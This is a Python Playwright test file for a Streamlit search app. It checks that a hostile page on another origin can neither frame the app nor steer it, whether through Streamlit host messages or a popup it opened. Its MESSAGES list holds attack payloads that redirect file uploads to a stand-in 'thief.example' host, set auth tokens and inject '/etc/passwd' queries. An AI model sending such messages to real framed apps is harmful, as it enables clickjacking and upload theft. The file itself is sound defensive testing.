"""A page of another origin can neither frame the app nor steer it, in a real browser."""

import http.server
import re
import threading
from pathlib import Path

import pytest
import streamlit
from playwright.sync_api import expect

from search_engine import build_collection, plan_build
from search_engine.settings import MINI_MODEL, Settings
from tests.app.browser import LONG, chromium, idle
from tests.conftest import paint
from tests.safety.pages.serving import served

PAGE = Path(__file__).with_name("hostile_page.html").read_text("utf-8")
FAMOUS = "https://x.streamlit.app"

THEFT = "https://thief.example/upload"
MESSAGES = (
    {"type": "UPDATE_FROM_QUERY_PARAMS", "queryParams": "?q=/etc/passwd"},
    {"type": "UPDATE_HASH", "hash": "stolen"},
    {"type": "REQUEST_PAGE_CHANGE", "pageScriptHash": "x"},
    {"type": "SET_FILE_UPLOAD_CLIENT_CONFIG", "prefix": THEFT, "headers": {}},
    {"type": "SET_AUTH_TOKEN", "authToken": "x"},
    {"type": "SET_IS_OWNER", "isOwner": True},
    {"type": "SET_INPUTS_DISABLED", "disabled": True},
    {"type": "SET_MENU_ITEMS", "items": [{"type": "text", "label": "Stolen", "key": "x"}]},
    {"type": "SET_TOOLBAR_ITEMS", "items": [{"key": "x", "label": "Stolen", "icon": ""}]},
    {"type": "SET_METADATA", "metadata": {"hostedAt": THEFT}},
    {"type": "SET_PAGE_LINK_BASE_URL", "pageLinkBaseUrl": THEFT},
    {"type": "SET_SIDEBAR_CHEVRON_DOWNSHIFT", "sidebarChevronDownshift": 500},
    {"type": "SET_SIDEBAR_NAV_VISIBILITY", "hidden": True},
    {
        "type": "SET_CUSTOM_THEME_CONFIG",
        "themeName": "Stolen",
        "themeInfo": {"primaryColor": "#ff0000", "backgroundColor": "#ff0000"},
    },
    {"type": "CLOSE_MODAL"},
    {"type": "CLEAR_CACHE"},
    {"type": "PRINT_APP"},
    {"type": "SEND_APP_HEARTBEAT"},
    {"type": "STOP_SCRIPT"},
    {"type": "RERUN_SCRIPT"},
    {"type": "RESTART_WEBSOCKET_CONNECTION"},
    {"type": "TERMINATE_WEBSOCKET_CONNECTION"},
)
"""Every kind that the browser's half of Streamlit knows."""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """The app over one collection."""
    root = tmp_path_factory.mktemp("framed")
    for number, colour in enumerate(("red", "green", "blue")):
        paint(root / "mine" / colour / "a.png", colour, salt=number)
    name, wanted = plan_build(root / "mine", Settings(root / "data"), model_id=MINI_MODEL)
    build_collection(name, wanted, Settings(root / "data"))
    with served(root / "data") as found:
        yield found


@pytest.fixture(scope="module")
def elsewhere():
    """The hostile page at another port of this machine."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(PAGE.encode())

        def log_message(self, *_):
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_port}"
        site.shutdown()


@pytest.fixture
def context():
    """A browser in which the famous page is the hostile one, and the thief waits for uploads."""
    # Chromium itself keeps pages of the world from this machine; other browsers do not.
    with chromium("--disable-features=LocalNetworkAccessChecks") as browser:
        made = browser.new_context(viewport={"width": 1280, "height": 900})
        made.route(f"{FAMOUS}/**", lambda route: route.fulfill(body=PAGE, content_type="text/html"))
        made.stolen = []
        made.route(f"{THEFT}**", lambda route: (made.stolen.append(route.request), route.abort()))
        yield made


def test_every_kind_of_message_is_tried():
    """The list above is the one that Streamlit has."""
    static = Path(streamlit.__file__).parent / "static/static/js"
    receivers = [
        found[1]
        for file in static.glob("index.*.js")
        if (found := re.search(r"receiveHostMessage=(.*?)\},this\.props=", file.read_text("utf-8")))
    ]
    known = set(re.findall(r"\.type===`([A-Z_]+)`", "".join(receivers)))
    assert known == {message["type"] for message in MESSAGES}


def origins(elsewhere):
    return {"another port": elsewhere, "a famous host": FAMOUS}


def let_it_be_framed(context, server):
    """Play a browser that knows none of the headers against frames."""

    def fetch(route):
        asked = {k: v for k, v in route.request.headers.items() if not k.startswith("sec-")}
        answer = route.fetch(headers=asked)
        known = {"x-frame-options", "content-security-policy", "cross-origin-resource-policy"}
        kept = {name: value for name, value in answer.headers.items() if name not in known}
        route.fulfill(response=answer, headers=kept)

    context.route(re.compile(f"{server.address}/(Search|Build_index)?([?].*)?$"), fetch)


@pytest.mark.parametrize("where", ["another port", "a famous host"])
def test_a_foreign_page_shows_nothing_of_the_app_in_a_frame(server, elsewhere, context, where):
    """A frame stays empty, so nothing can be clicked through it, and nothing is reported."""
    tab = context.new_page()
    tab.goto(origins(elsewhere)[where] + "/")
    tab.locator("iframe").evaluate("(frame, to) => { frame.src = to }", f"{server.address}/Search")
    tab.wait_for_timeout(2500)
    (frame,) = tab.main_frame.child_frames
    assert frame.url.startswith("chrome-error:")
    assert "Streamlit" not in frame.content()
    assert tab.evaluate("heard") == []


@pytest.mark.parametrize("where", ["another port", "a famous host"])
def test_messages_of_a_foreign_page_steer_nothing(server, elsewhere, context, where, tmp_path):
    """Even where it could be framed, no message changes what the app shows or where files go."""
    let_it_be_framed(context, server)
    tab = context.new_page()
    tab.goto(origins(elsewhere)[where] + "/")
    address = f"{server.address}/Search?collection=mine"
    tab.locator("iframe").evaluate("(frame, to) => { frame.src = to }", address)
    inside = tab.frame_locator("iframe")
    inside.locator("li .open").first.wait_for(timeout=LONG)
    (frame,) = tab.main_frame.child_frames
    before = (frame.url, ground(inside), inside.locator("section nav, nav").count())
    for message in MESSAGES:
        tab.evaluate("(message) => say(message)", message)
    tab.wait_for_timeout(1500)
    assert (frame.url, ground(inside), inside.locator("section nav, nav").count()) == before
    assert inside.get_by_text("Stolen").count() == 0
    assert inside.get_by_text("/etc/passwd").count() == 0
    expect(inside.get_by_placeholder("Search…")).to_have_value("")
    expect(inside.get_by_placeholder("Search…")).to_be_enabled()
    inside.get_by_role("button", name="Picture").click()
    inside.locator("input[type=file]").set_input_files(paint(tmp_path / "x.png", "red"))
    tab.wait_for_timeout(2000)
    assert context.stolen == []


def test_a_page_that_opened_the_app_steers_nothing(server, elsewhere, context):
    """A page that opens the app in a window of its own loses hold of it at once."""
    tab = context.new_page()
    tab.goto(elsewhere)
    with context.expect_page() as opened:
        tab.evaluate("(to) => { window.popup = open(to) }", f"{server.address}/Search")
    app = opened.value
    app.locator("li .open").first.wait_for(timeout=LONG)
    for message in MESSAGES:
        tab.evaluate("(message) => say(message)", message)
    app.wait_for_timeout(1000)
    idle(app)
    assert app.url.startswith(f"{server.address}/Search")
    assert "passwd" not in app.url
    assert tab.evaluate("popup.closed")  # as far as the page can see
    assert tab.evaluate("heard") == []


def ground(inside):
    return inside.get_by_test_id("stApp").evaluate("(app) => getComputedStyle(app).backgroundColor")
